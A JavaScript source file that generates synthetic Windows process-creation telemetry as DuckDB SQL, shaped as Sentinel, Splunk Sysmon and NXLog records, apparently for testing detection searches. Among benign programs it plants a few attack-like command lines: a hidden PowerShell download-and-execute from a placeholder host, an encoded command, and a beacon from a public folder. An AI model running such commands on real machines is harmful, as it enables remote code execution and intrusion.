// Process creations as SQL that makes them inside DuckDB: no row passes through JavaScript. Equal seed, equal rows (with
// one version of DuckDB, whose `hash` is used); each purpose draws from a stream of its own, so that a new column shifts
// no other.
import { createHash } from 'node:crypto';

const DAYS = 8;
const TICKS_PER_DAY = 864_000_000_000n;
/** 2026-01-01T00:00Z in ticks since 0001-01-01. */
const FIRST = 639_028_224_000_000_000n;
const UNIX_EPOCH = 621_355_968_000_000_000n;

/** The instant just after the last event, in ticks: the clock of every search here. */
export const NOW = FIRST + BigInt(DAYS) * TICKS_PER_DAY;
/** The same in epoch seconds. */
export const NOW_SECONDS = Number((NOW - UNIX_EPOCH) / 10_000_000n);

const SYSTEM = 'C:\\Windows\\System32\\';

/** What runs: weight, folder, file, arguments. `#` is a number and `@` a word of the row's own. */
const programs = [
  [26, SYSTEM, 'svchost.exe', '-k LocalServiceNetworkRestricted -p -s @ -instance {#-4f2a-9c1b-#}'],
  [18, SYSTEM, 'conhost.exe', '0xffffffff -ForceV1 -handle #-#'],
  [16, SYSTEM, 'backgroundTaskHost.exe', '-ServerName:App.AppX@#.mca'],
  [14, SYSTEM, 'cmd.exe', '/c "C:\\ProgramData\\Inventory\\@\\collect-#.cmd" --site @ --run #'],
  [
    12,
    'C:\\Program Files\\Google\\Chrome\\Application\\',
    'chrome.exe',
    '--type=renderer --lang=en-US --field-trial-handle=# --renderer-client-id=#',
  ],
  [10, SYSTEM, 'taskhostw.exe', 'Install $(Arg0) -session # -context @#'],
  [9, SYSTEM, 'RuntimeBroker.exe', '-Embedding -activation @# -token #'],
  [
    8,
    'C:\\Program Files\\Microsoft Office\\root\\Office16\\',
    'OUTLOOK.EXE',
    '/select "outlook:Inbox\\@-#.msg" /session #',
  ],
  [
    6,
    `${SYSTEM}WindowsPowerShell\\v1.0\\`,
    'powershell.exe',
    '-NoProfile -ExecutionPolicy RemoteSigned -File D:\\Scripts\\@\\report-#.ps1 -Id #',
  ],
  [
    2,
    `${SYSTEM}WindowsPowerShell\\v1.0\\`,
    'powershell.exe',
    "-NoP -W hidden -c IEX(New-Object Net.WebClient).DownloadString('http://@.example/#')",
  ],
  [
    1,
    `${SYSTEM}WindowsPowerShell\\v1.0\\`,
    'powershell.exe',
    '-NonI -W Hidden -EncodedCommand SQBFAFgAKABOAGUAdwAtAE8AYgBqAGUAYwB0@#',
  ],
  [5, SYSTEM, 'rundll32.exe', 'C:\\Windows\\System32\\@.dll,Control_RunDLL -job # -part #'],
  [5, SYSTEM, 'wbem\\WmiPrvSE.exe', '-secured -Embedding -host @# -provider #'],
  [
    4,
    SYSTEM,
    'schtasks.exe',
    '/Create /F /SC DAILY /ST 09:00 /TN "Inventory @ #" /TR "C:\\ProgramData\\@\\agent.exe -job #"',
  ],
  [4, SYSTEM, 'reg.exe', 'query HKLM\\SOFTWARE\\Contoso\\@\\Inventory\\# /v Version /reg:64'],
  [4, SYSTEM, 'net.exe', 'use \\\\fs-@.corp.example\\share# /persistent:no /user:CORP\\svc-@'],
  [
    16,
    'C:\\Program Files (x86)\\Contoso\\Updater\\',
    'updater.exe',
    '--channel stable --component @ --request # --session {#}',
  ],
  [
    12,
    'C:\\ProgramData\\Contoso\\',
    'agent.exe',
    '-job # -policy "C:\\ProgramData\\Contoso\\policies\\@-#.json"',
  ],
  [1, 'C:\\Users\\Public\\', 'helper.exe', '-connect 10.20.@.corp.example:# -beacon # -sleep 60'],
];

/** What starts it: weight, image, command line. */
const parents = [
  [30, `${SYSTEM}svchost.exe`, `${SYSTEM}svchost.exe -k DcomLaunch -p`],
  [8, `${SYSTEM}svchost.exe`, `${SYSTEM}svchost.exe -k netsvcs -p -s Schedule`],
  [22, 'C:\\Windows\\explorer.exe', 'C:\\Windows\\Explorer.EXE'],
  [16, `${SYSTEM}services.exe`, `${SYSTEM}services.exe`],
  [12, `${SYSTEM}cmd.exe`, `"${SYSTEM}cmd.exe" /c inventory.cmd`],
  [
    8,
    'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe',
    '"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe" --no-startup-window',
  ],
  [
    4,
    `${SYSTEM}WindowsPowerShell\\v1.0\\powershell.exe`,
    'powershell.exe -NoProfile -File D:\\Scripts\\nightly.ps1',
  ],
];

const words =
  'alder birch cedar dogwood elm fir ginkgo hazel ivy juniper larch maple oak pine rowan spruce'.split(
    ' ',
  );
const modules =
  'ntdll.dll kernel32.dll user32.dll ws2_32.dll crypt32.dll amsi.dll taskschd.dll wininet.dll'.split(
    ' ',
  );
const names =
  'anna bruno carla david elena felix greta hans irene jonas karin lukas marta nils olga pavel'.split(
    ' ',
  );

/** JSON arrays of one to four loaded modules. */
const moduleLists = modules.flatMap((_, at) =>
  [1, 2, 3, 4].map((count) =>
    JSON.stringify(
      Array.from({ length: count }, (__, n) => ({
        Name: modules[(at + n) % modules.length],
        Size: 4096 * (at + n + 1),
      })),
    ),
  ),
);

const text = (value) => `'${value.replaceAll("'", "''")}'`;
/** A numbered table in which each row stands as often as its weight says, so that a random slot is a weighted choice. */
const slotted = (table, columns) => {
  const rows = table.flatMap(([weight, ...cells]) =>
    Array(weight).fill(cells.map(text).join(', ')),
  );
  const numbered = rows.map((cells, slot) => `(${slot}, ${cells})`);
  return `(VALUES ${numbered.join(', ')}) AS ${columns}`;
};
const slots = (table) => table.reduce((sum, [weight]) => sum + weight, 0);
/** The same for plain values. */
const numbered = (values, columns) =>
  slotted(
    values.map((value) => [1, value]),
    columns,
  );

const streamStart = (seed, stream) =>
  BigInt(`0x${createHash('sha256').update(`${seed} ${stream}`).digest('hex').slice(0, 15)}`);

/**
 * A SELECT of process creations under neutral names, in order of time. `ticks` is the time, `details` JSON text; hosts and
 * users are skewed, command lines are about 85 characters and nearly all distinct.
 */
export function processEvents({ rows, seed, hosts = 2000 }) {
  // Streams are far-off places of one sequence: `hash` of several arguments would only differ by a constant in its low bits.
  const random = (stream) => `hash(CAST(${streamStart(seed, stream)} + i AS UBIGINT))`;
  const below = (count, stream) => `CAST(${random(stream)} % ${count} AS BIGINT)`;
  const unit = (stream) => `(CAST(${random(stream)} % 1048576 AS DOUBLE) / 1048576)`;
  const step = (BigInt(DAYS) * TICKS_PER_DAY) / BigInt(rows);
  return `
WITH drawn AS (
  SELECT i,
    ${FIRST} + i * ${step} + ${below(step, 'time')} AS ticks,
    CAST(floor(${hosts} * pow(${unit('host')}, 1.6)) AS BIGINT) AS host_number,
    ${below(slots(programs), 'program')} AS program_slot,
    ${below(slots(parents), 'parent')} AS parent_slot,
    ${below(words.length, 'word')} AS word_slot,
    ${below(100, 'who')} AS who,
    lpad(CAST(${below(100_000_000, 'number')} AS VARCHAR), 8, '0') AS number,
    4 * CAST(floor(1000 * pow(${unit('pid')}, 2)) AS BIGINT) + 1000 AS pid,
    4 * CAST(floor(1000 * pow(${unit('ppid')}, 2)) AS BIGINT) + 1000 AS ppid,
    ${below(6, 'version')} AS version,
    ${below(24, 'logon')} AS logon,
    ${below(moduleLists.length, 'module')} AS module_slot
  FROM range(${rows}) AS numbers(i)
)
SELECT i, ticks,
  'ws-' || lpad(CAST(host_number AS VARCHAR), 4, '0') AS host,
  CASE WHEN who < 35 THEN 'SYSTEM' WHEN who < 45 THEN 'LOCAL SERVICE' ELSE name || CAST(host_number AS VARCHAR) END AS account,
  CASE WHEN who < 45 THEN 'NT AUTHORITY' ELSE 'CORP' END AS domain,
  regexp_extract(path, '[^\\\\]+$') AS file,
  folder || path AS image,
  path || ' ' || replace(replace(args, '#', number), '@', word) AS command,
  parent_image,
  regexp_extract(parent_image, '[^\\\\]+$') AS parent_file,
  parent_command,
  pid, ppid,
  sha1(path || CASE WHEN path = 'helper.exe' THEN number ELSE CAST(version AS VARCHAR) END) AS sha1,
  md5(path || CAST(version AS VARCHAR)) AS md5,
  CASE WHEN who < 45 THEN 'System' WHEN who < 55 THEN 'High' ELSE 'Medium' END AS integrity,
  CASE WHEN who < 35 THEN '0x3e7' ELSE '0x' || to_hex(65536 + host_number * 64 + logon) END AS logon_id,
  '{"Logon":{"Type":' || CASE WHEN who < 45 THEN '5' ELSE '2' END || ',"Session":' || CAST(logon AS VARCHAR) ||
    '},"Signer":"Contoso ' || word || '","Modules":' || loaded || '}' AS details
FROM drawn
JOIN ${slotted(programs, 'program(program_slot, folder, path, args)')} USING (program_slot)
JOIN ${slotted(parents, 'parent(parent_slot, parent_image, parent_command)')} USING (parent_slot)
JOIN ${numbered(words, 'word(word_slot, word)')} USING (word_slot)
JOIN ${numbered(names, 'name(name_slot, name)')} ON name_slot = host_number % ${names.length}
JOIN ${numbered(moduleLists, 'modules(module_slot, loaded)')} USING (module_slot)`;
}

const column = (name, type, sql) => ({ name, type, sql });

/** `DeviceProcessEvents` as Sentinel stores it: those of its columns that a process creation fills. */
export const kustoColumns = [
  column('TimeGenerated', 'datetime', 'ticks'),
  column('Timestamp', 'datetime', 'ticks'),
  column('ActionType', 'string', "'ProcessCreated'"),
  column('DeviceId', 'string', 'sha1(host)'),
  column('DeviceName', 'string', 'host'),
  column('AccountName', 'string', 'lower(account)'),
  column('AccountDomain', 'string', 'lower(domain)'),
  column('FileName', 'string', 'file'),
  column('FolderPath', 'string', 'image'),
  column('SHA1', 'string', 'sha1'),
  column('MD5', 'string', 'md5'),
  column('ProcessId', 'long', 'pid'),
  column('ProcessCommandLine', 'string', 'command'),
  column('ProcessIntegrityLevel', 'string', 'integrity'),
  column('InitiatingProcessFileName', 'string', 'parent_file'),
  column('InitiatingProcessFolderPath', 'string', 'parent_image'),
  column('InitiatingProcessCommandLine', 'string', 'parent_command'),
  column('InitiatingProcessId', 'long', 'ppid'),
  column('ReportId', 'long', 'i'),
  column('AdditionalFields', 'dynamic', 'details'),
];

const seconds = `(ticks - ${UNIX_EPOCH}) / 1e7`;
const iso = `strftime(make_timestamp((ticks - ${UNIX_EPOCH}) // 10), '%Y-%m-%d %H:%M:%S.%g')`;

/** Sysmon's event 1 as a Splunk search head sees it. */
export const splunkColumns = [
  column('_time', 'real', seconds),
  column(
    '_raw',
    'string',
    `${iso} || ' EventCode=1 Computer=' || host || ' User=' || domain || '\\' || account || ' Image=' || image || ' CommandLine=' || command || ' ParentImage=' || parent_image`,
  ),
  column('_indextime', 'real', `${seconds} + 60`),
  column('index', 'string', "'win'"),
  column('source', 'string', "'XmlWinEventLog:Microsoft-Windows-Sysmon/Operational'"),
  column('sourcetype', 'string', "'XmlWinEventLog'"),
  column('host', 'string', 'host'),
  column('EventCode', 'string', "'1'"),
  column('Computer', 'string', 'host'),
  column('User', 'string', "domain || '\\' || account"),
  column('Image', 'string', 'image'),
  column('OriginalFileName', 'string', 'file'),
  column('CommandLine', 'string', 'command'),
  column('ParentImage', 'string', 'parent_image'),
  column('ParentCommandLine', 'string', 'parent_command'),
  column('ProcessId', 'string', 'CAST(pid AS VARCHAR)'),
  column('ParentProcessId', 'string', 'CAST(ppid AS VARCHAR)'),
  column('ProcessGuid', 'string', "'{' || md5(CAST(i AS VARCHAR)) || '}'"),
  column('IntegrityLevel', 'string', 'integrity'),
  column('LogonId', 'string', 'logon_id'),
  column('Hashes', 'string', "'SHA1=' || upper(sha1) || ',MD5=' || upper(md5)"),
  column('details', 'string', 'details'),
];

/** The same event as NXLog forwards it, one JSON object a line. */
export const nxlogColumns = [
  column(
    'EventTime',
    'string',
    `strftime(make_timestamp((ticks - ${UNIX_EPOCH}) // 10), '%Y-%m-%d %H:%M:%S')`,
  ),
  column('Hostname', 'string', 'host'),
  column('Keywords', 'long', '-9223372036854775808'),
  column('EventType', 'string', "'INFO'"),
  column('SeverityValue', 'long', '2'),
  column('EventID', 'long', '1'),
  column('SourceName', 'string', "'Microsoft-Windows-Sysmon'"),
  column('ProviderGuid', 'string', "'{5770385F-C22A-43E0-BF4C-06F5698FFBD9}'"),
  column('Version', 'long', '5'),
  column('Task', 'long', '1'),
  column('OpcodeValue', 'long', '0'),
  column('RecordNumber', 'long', 'i + 1'),
  column('ExecutionProcessID', 'long', '2316'),
  column('ExecutionThreadID', 'long', '3204'),
  column('Channel', 'string', "'Microsoft-Windows-Sysmon/Operational'"),
  column('Domain', 'string', "'NT AUTHORITY'"),
  column('AccountName', 'string', "'SYSTEM'"),
  column('UserID', 'string', "'S-1-5-18'"),
  column('RuleName', 'string', "'-'"),
  column('UtcTime', 'string', iso),
  column('ProcessGuid', 'string', "'{' || md5(CAST(i AS VARCHAR)) || '}'"),
  column('ProcessId', 'string', 'CAST(pid AS VARCHAR)'),
  column('Image', 'string', 'image'),
  column('OriginalFileName', 'string', 'file'),
  column('CommandLine', 'string', 'command'),
  column('CurrentDirectory', 'string', "'C:\\Windows\\system32\\'"),
  column('User', 'string', "domain || '\\' || account"),
  column('LogonId', 'string', 'logon_id'),
  column('IntegrityLevel', 'string', 'integrity'),
  column('Hashes', 'string', "'SHA1=' || upper(sha1) || ',MD5=' || upper(md5)"),
  column('ParentProcessGuid', 'string', "'{' || md5(CAST(ppid AS VARCHAR)) || '}'"),
  column('ParentProcessId', 'string', 'CAST(ppid AS VARCHAR)'),
  column('ParentImage', 'string', 'parent_image'),
  column('ParentCommandLine', 'string', 'parent_command'),
];

const quoted = (name) => `"${name.replaceAll('"', '""')}"`;

/** The events in a platform's shape, in order. */
export function eventsAs(columns, options) {
  const items = columns.map(({ name, sql }) => `${sql} AS ${quoted(name)}`);
  return `SELECT ${items.join(', ')} FROM (${processEvents(options)}) AS events ORDER BY i`;
}

/** Hashes with an owner, for lookups: the hashes of programs that run, among `rows` that never do. */
export function ownersOf(rows) {
  const known = programs.flatMap(([, , file]) =>
    [0, 1, 2, 3].map((version) => `(${text(file)}, ${version})`),
  );
  return `
SELECT upper(sha1(file || CAST(version AS VARCHAR))) AS sha1, 'vendor ' || file AS owner, CAST(version AS VARCHAR) AS release
FROM (SELECT DISTINCT * FROM (VALUES ${known.join(', ')}) AS known(file, version))
UNION ALL
SELECT upper(sha1('absent ' || CAST(n AS VARCHAR))), 'nobody ' || CAST(n % 500 AS VARCHAR), '0' FROM range(${rows}) AS numbers(n)
ORDER BY 1`;
}
